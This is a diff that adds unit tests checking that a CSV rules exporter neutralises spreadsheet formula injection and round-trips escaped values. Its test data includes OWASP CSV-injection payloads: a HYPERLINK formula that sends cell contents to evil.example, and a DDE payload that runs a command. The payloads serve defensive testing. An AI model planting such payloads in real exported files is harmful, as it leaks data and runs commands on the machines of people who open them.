@@ -1,5 +1,7 @@
+import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { formatRulesCsv } from "../src/formatRulesCsv.js";
+import { tableAction } from "../src/parseRuleRows.js";
 import { parseRulesCsv } from "../src/parseRulesCsv.js";
 import type { Rule } from "../src/rule.js";
 
@@ -39,5 +41,64 @@ describe("formatRulesCsv", () => {
     const { text, leftOut } = formatRulesCsv([{ ...base, ...overrides }]);
     expect(text).toBe(`${HEADER}\r\n`);
     expect(leftOut).toEqual([{ id: "r", reason: expect.stringContaining(reason) }]);
+  });
+
+  // OWASP "CSV Injection": what a spreadsheet takes for a formula.
+  const FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+  ];
+  /** A rule the table can say, with the table's own action, named after its cells. */
+  const tableRule = (cells: {
+    event: string;
+    where?: [string, string];
+    id: string;
+    sum?: string;
+    metric?: string;
+  }): Rule => ({
+    id: cells.id,
+    event: cells.event,
+    ...(cells.where === undefined ? {} : { where: { [cells.where[0]]: cells.where[1] } }),
+    count: { op: ">", value: 1 },
+    ...(cells.sum === undefined
+      ? {}
+      : {
+          sum: { op: ">", value: cells.sum, ...(cells.metric === undefined ? {} : { metric: cells.metric }) },
+        }),
+    action: tableAction({ dated: false, event: cells.event, filterValue: cells.where?.[1], reset: false }),
+    reset: false,
+    enabled: true,
+  });
+
+  it.each(FORMULAS)("writes %j so that a spreadsheet shows it as text, and reads it back", (formula) => {
+    const rules = [
+      tableRule({ event: formula, id: "in-event" }),
+      tableRule({ event: "e", where: [formula, formula], id: "in-filter" }),
+      tableRule({ event: "e", id: formula }),
+      tableRule({ event: "e", id: "in-metric", sum: "1", metric: formula }),
+    ];
+    const { text, leftOut } = formatRulesCsv(rules);
+    expect(leftOut).toEqual([]);
+    // Every cell as a spreadsheet opens the file (quotes removed, nothing trimmed): none starts a formula.
+    const cells = (parse(text) as string[][]).flat();
+    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))).toEqual([]);
+    expect(cells.filter((cell) => cell === `'${formula}`)).toHaveLength(5);
+    expect(parseRulesCsv(text).rules).toEqual(rules);
+  });
+
+  it("keeps a negative target a number: -5 is no formula", () => {
+    const rule = tableRule({ event: "refund", id: "refunds", sum: "-5" });
+    const { text } = formatRulesCsv([rule]);
+    expect(text.split("\r\n")[1]).toBe(
+      "aggregator,refund,na,999,greater,1,greater,-5,no,9999-99-99,9999-99-99,refunds,na",
+    );
+    expect(parseRulesCsv(text).rules).toEqual([rule]);
+  });
+
+  it.each(["'=x", "''+y", "'x", "-", "'-"])("reads back %j, quotes and all", (event) => {
+    const rules = [tableRule({ event, id: "r" })];
+    expect(parseRulesCsv(formatRulesCsv(rules).text).rules).toEqual(rules);
   });
 });
